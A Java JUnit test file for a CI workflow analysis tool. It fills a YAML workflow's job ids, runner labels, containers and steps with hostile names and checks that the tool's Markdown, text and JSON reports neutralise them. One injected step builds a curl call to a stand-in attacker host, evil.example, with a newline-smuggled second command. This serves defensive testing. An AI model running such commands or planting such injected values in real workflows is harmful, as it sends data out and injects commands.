package cascade.report;

import static org.assertj.core.api.Assertions.assertThat;

import cascade.app.Analysis;
import cascade.app.ToolException;
import cascade.assessment.Assessment;
import cascade.pipeline.Situation;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/// What is told of services, risk, time and capacity when whatever may be written into a workflow
/// file is an attack: ids of jobs, labels of runners, environments, images, hosts and scripts.
///
/// Source: `reliability.md` 1.3.
class HostilePrognosisTest {
  @TempDir private Path folder;

  static Stream<String> names() {
    return HostileNames.NAMES.stream()
        .filter(name -> !name.isBlank())
        // No file holds half of a character.
        .filter(name -> name.codePoints().noneMatch(HostilePrognosisTest::isHalf));
  }

  private static boolean isHalf(int character) {
    return character >= Character.MIN_SURROGATE && character <= Character.MAX_SURROGATE;
  }

  /// YAML takes the strings of JSON.
  private static String quoted(String text) throws IOException {
    return new ObjectMapper().writeValueAsString(text);
  }

  /// Empty where the reader takes no job from such a file.
  private Optional<Assessment> assessment(String name) throws IOException {
    var yaml =
        """
        on: push
        jobs:
          %1$s:
            runs-on: [self-hosted, %1$s]
            environment: %1$s
            container: %1$s
            steps:
              - uses: %1$s
              - run: %2$s
          after:
            needs: [%1$s]
            runs-on: %1$s
            steps:
              - run: docker pull x
        """
            .formatted(
                quoted(name),
                quoted("curl 'https://evil.example/" + name + "'\ndocker pull '" + name + "'"));
    var path = Files.writeString(folder.resolve("ci.yml"), yaml);
    try {
      return Optional.of(Analysis.of(path, Situation.ANY).assess(Optional.empty()));
    } catch (ToolException.Unreadable _) {
      return Optional.empty();
    }
  }

  @ParameterizedTest
  @MethodSource("names")
  void nothingActsAndNothingIsHidden(String name) throws IOException {
    assessment(name).ifPresent(HostilePrognosisTest::assertHarmless);
  }

  @Test
  void mostNamesAreReadAsJobs() throws IOException {
    var read = 0;
    for (var name : names().toList()) {
      read += assessment(name).isPresent() ? 1 : 0;
    }
    assertThat(read).isGreaterThan(30);
  }

  private static void assertHarmless(Assessment assessment) {
    var prognosis = assessment.prognosis().orElseThrow();
    assertThat(prognosis.leanings().services()).isNotEmpty();
    assertThat(prognosis.risk().hazards()).isNotEmpty();

    MarkdownScan.assertNothingActs(MarkdownReport.of(assessment));
    for (var style : List.of(TextStyle.PLAIN, new TextStyle(false, false, 60))) {
      HostileNamesTest.assertHarmless(TextReport.of(assessment, style), style);
    }
    var json = JsonReport.of(assessment);
    JsonSchemas.assertValid("assessment-1", json);
    assertThat(json.strip()).doesNotContainPattern("[\\x00-\\x1f]").doesNotContain("##[");
  }
}
